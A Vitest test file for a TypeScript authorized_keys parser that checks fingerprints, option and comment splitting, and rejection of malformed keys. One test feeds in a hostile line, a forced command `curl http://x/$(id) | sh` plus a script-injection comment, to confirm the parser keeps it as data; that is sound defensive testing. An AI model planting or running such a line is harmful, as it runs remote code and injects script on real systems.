import { existsSync } from "node:fs";
import { execa } from "execa";
import { describe, expect, it } from "vitest";
import {
  blobKeyType,
  parseAuthorizedKeys,
  sshFingerprint,
} from "../../../../src/observe/accounts/authorized-keys.js";
import { accountsFixture, readAccountsFixture } from "../../../helpers/accounts-fixtures.js";

const ED25519 = "Hc9/2+opox6AbBiR9XeKm7tW4Iha2PmT6OrXHpvlLiU";

/** [fingerprint, type] of each `ssh-keygen -lf` line; the comment is not reliable (it may hold a CR). */
function keygenLines(out: string): Array<[string, string]> {
  return out
    .trim()
    .split("\n")
    .map((l) => {
      const m = /^\d+ (SHA256:\S+) [\s\S]*\((\w+)\)$/.exec(l);
      if (!m) throw new Error(`unexpected ssh-keygen line: ${l}`);
      return [m[1]!, m[2]!];
    });
}

const KEYGEN_TYPE: Record<string, string> = {
  "ssh-ed25519": "ED25519",
  "ssh-rsa": "RSA",
  "ecdsa-sha2-nistp256": "ECDSA",
  "ssh-dss": "DSA",
};

describe("parseAuthorizedKeys on keys made by ssh-keygen", () => {
  it("finds the same keys and fingerprints as the recorded ssh-keygen -lf", async () => {
    const text = (await readAccountsFixture("ssh", "authorized_keys")).toString();
    const p = parseAuthorizedKeys(text);
    const expected = keygenLines((await readAccountsFixture("ssh", "keygen-l.out")).toString());
    expect(p.keys.map((k) => [k.fingerprint, KEYGEN_TYPE[k.type]])).toEqual(expected);
  });

  it("splits options, type, comment and line numbers as sshd does", async () => {
    const p = parseAuthorizedKeys((await readAccountsFixture("ssh", "authorized_keys")).toString());
    expect(p.keys.map((k) => k.line)).toEqual([2, 3, 4, 6, 9, 10]);
    expect(p.keys[0]).toEqual({
      type: "ssh-ed25519",
      fingerprint: `SHA256:${ED25519}`,
      comment: "ed25519@breachkit-test",
      options: "",
      line: 2,
    });
    expect(p.keys[1]).toMatchObject({
      type: "ssh-rsa",
      options: 'command="/usr/bin/rrsync -ro /srv/backup",no-pty,from="10.0.0.0/8,192.168.1.1"',
      comment: "backup key with spaces",
    });
    // Indented, no comment.
    expect(p.keys[2]).toMatchObject({ type: "ecdsa-sha2-nistp256", comment: "", options: "" });
    // A quoted option holding spaces, an escaped quote and a '#'.
    expect(p.keys[3]).toMatchObject({
      options: 'restrict,environment="X=a b \\"quoted\\" # not a comment"',
      comment: "ed25519@breachkit-test",
    });
    // CRLF line: the CR is not part of the comment.
    expect(p.keys[4]).toMatchObject({ comment: "ecdsa@breachkit-test" });
    expect(p.invalid).toEqual([
      { line: 7, reason: "key data is not base64" },
      { line: 8, reason: "key data is a ssh-ed25519 key, line says ssh-rsa" },
    ]);
  });

  it.skipIf(!existsSync("/usr/bin/ssh-keygen"))(
    "agrees with ssh-keygen -lf run on this machine",
    async () => {
      const file = accountsFixture("ssh", "authorized_keys");
      const r = await execa("ssh-keygen", ["-l", "-f", file]);
      const p = parseAuthorizedKeys(
        (await readAccountsFixture("ssh", "authorized_keys")).toString(),
      );
      expect(p.keys.map((k) => [k.fingerprint, KEYGEN_TYPE[k.type]])).toEqual(
        keygenLines(r.stdout),
      );
    },
  );
});

describe("near misses and hostile lines", () => {
  const blob = (type: string, rest = "AAAA") =>
    Buffer.concat([
      Buffer.from([0, 0, 0, type.length]),
      Buffer.from(type),
      Buffer.from(rest),
    ]).toString("base64");

  it("rejects unknown types, bad base64, type mismatches and open quotes", () => {
    const p = parseAuthorizedKeys(
      [
        `ssh-foo ${blob("ssh-foo")} unknown type`,
        `ssh-ed25519 ${blob("ssh-ed25519")}=== too much padding`,
        `ssh-ed25519`,
        `command="unterminated ssh-ed25519 ${blob("ssh-ed25519")}`,
        `no-pty`,
        `ssh-rsa AAAA`,
        `# ssh-ed25519 ${blob("ssh-ed25519")} commented out`,
      ].join("\n"),
    );
    expect(p.keys).toEqual([]);
    expect(p.invalid.map((i) => i.line)).toEqual([1, 2, 3, 4, 5, 6]);
    expect(p.invalid[3]!.reason).toBe("unterminated quote in options");
  });

  it("keeps hostile comments and options as data", () => {
    const b = blob("ssh-ed25519");
    const p = parseAuthorizedKeys(
      `command="curl http://x/$(id) | sh" ssh-ed25519 ${b} <script>alert(1)</script>\u001b[2J\tend\n`,
    );
    expect(p.keys).toEqual([
      {
        type: "ssh-ed25519",
        fingerprint: sshFingerprint(Buffer.from(b, "base64")),
        comment: "<script>alert(1)</script>\u001b[2J\tend",
        options: 'command="curl http://x/$(id) | sh"',
        line: 1,
      },
    ]);
  });

  it("accepts certificates and security-key types by name", () => {
    const p = parseAuthorizedKeys(
      `sk-ssh-ed25519@openssh.com ${blob("sk-ssh-ed25519@openssh.com")} yubikey\n` +
        `cert-authority ssh-ed25519-cert-v01@openssh.com ${blob("ssh-ed25519-cert-v01@openssh.com")}`,
    );
    expect(p.keys.map((k) => [k.type, k.options])).toEqual([
      ["sk-ssh-ed25519@openssh.com", ""],
      ["ssh-ed25519-cert-v01@openssh.com", "cert-authority"],
    ]);
  });

  it("blobKeyType refuses short or inconsistent blobs", () => {
    expect(blobKeyType(Buffer.from([0, 0, 0]))).toBeNull();
    expect(blobKeyType(Buffer.from([0, 0, 0, 9, 0x61]))).toBeNull();
    expect(blobKeyType(Buffer.from([0xff, 0xff, 0xff, 0xff, 0x61]))).toBeNull();
    expect(blobKeyType(Buffer.from([0, 0, 0, 1, 0x61]))).toBe("a");
  });
});
